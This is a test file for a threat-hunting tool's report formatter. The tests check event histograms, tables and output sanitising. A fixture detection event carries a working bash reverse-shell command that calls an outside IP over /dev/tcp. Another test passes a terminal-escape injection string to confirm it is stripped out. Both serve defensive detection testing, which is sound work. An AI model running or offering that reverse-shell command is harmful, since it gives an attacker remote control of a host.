import type { ShownHunt } from '@norn/contracts';
import { huntReport } from './report.ts';

const event: ShownHunt['events'][number] = {
  time: '2026-11-27T02:10:11.123456Z',
  hostId: 'host-1',
  hostName: 'node-3',
  containerId: '4f1c9a2b77e0aa',
  containerName: 'web-1',
  containerImage: 'shop/web:1.4',
  kind: 'exec',
  processUid: 'a'.repeat(32),
  pid: 4121,
  image: '/usr/bin/bash',
  commandLine: 'bash -i',
  userName: 'www-data',
  summary: 'bash ties a shell to the network: bash -i',
  matched: [{ field: 'CommandLine', value: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' }],
};

const hour = (at: number, events: number): ShownHunt['histogram'][number] => ({
  time: new Date(Date.UTC(2026, 10, 27, at)).toISOString(),
  events,
});

const found: ShownHunt = {
  rule: {
    id: '',
    name: 'shell',
    title: 'A shell',
    level: 'high',
    description: '',
    techniques: [],
    category: 'process_creation',
  },
  since: '2026-11-27T00:00:00.000000Z',
  until: '2026-11-27T04:00:00.000000Z',
  total: 9,
  bucketSeconds: 3_600,
  histogram: [hour(0, 0), hour(1, 1), hour(2, 8), hour(3, 0)],
  events: [event],
  truncated: true,
  tookMs: 230,
  eventsRead: 0,
  readUntil: '',
};

describe('the report of a hunt', () => {
  it('of a correlation says how often, of how many events, and where there was too much', () => {
    const rule = { ...found.rule, category: 'correlation' };
    const report = huntReport({ ...found, rule, total: 1, eventsRead: 12, readUntil: '2026-11-27T03:00:00.000000Z' });
    expect(report.split('\n').slice(0, 2)).toEqual([
      'A shell (high): found 1 time from 2026-11-27 00:00 to 2026-11-27 04:00 UTC, in 0.2 s',
      '12 events of its rules put together; what is later than 2026-11-27 03:00 was not looked at, there is too much: --since 2026-11-27T03:00:00.000000Z',
    ]);
  });

  it('says how many when, and shows the newest', () => {
    expect(huntReport(found).split('\n')).toEqual([
      'A shell (high): 9 events from 2026-11-27 00:00 to 2026-11-27 04:00 UTC, in 0.2 s',
      '',
      ' ▁█ ',
      '2026-11-27 00:00 2026-11-27 04:00',
      'each 1 h, at most 8 events',
      '',
      'TIME                 HOST    CONTAINER  PROCESS      USER      MATCHED',
      '2026-11-27 02:10:11  node-3  web-1      bash (4121)  www-data  CommandLine bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
      '… and 8 events before: --limit, or --json for all that one hunt shows',
    ]);
  });

  it('says what to do when nothing was found', () => {
    expect(huntReport({ ...found, total: 0, events: [], truncated: false })).toMatch(/Nothing is stored.*--since 30d$/);
  });

  it('keeps an attacker from the terminal', () => {
    const value = `\x1b[2Jx\ny\u202e${'z'.repeat(100)}`;
    const text = huntReport({ ...found, events: [{ ...event, matched: [{ field: 'CommandLine', value }] }] });
    expect(text).toContain('CommandLine [2Jx y zzz');
    expect(text).toContain('zz…');
    expect(text).not.toMatch(/\x1b|\u202e/);
  });
});
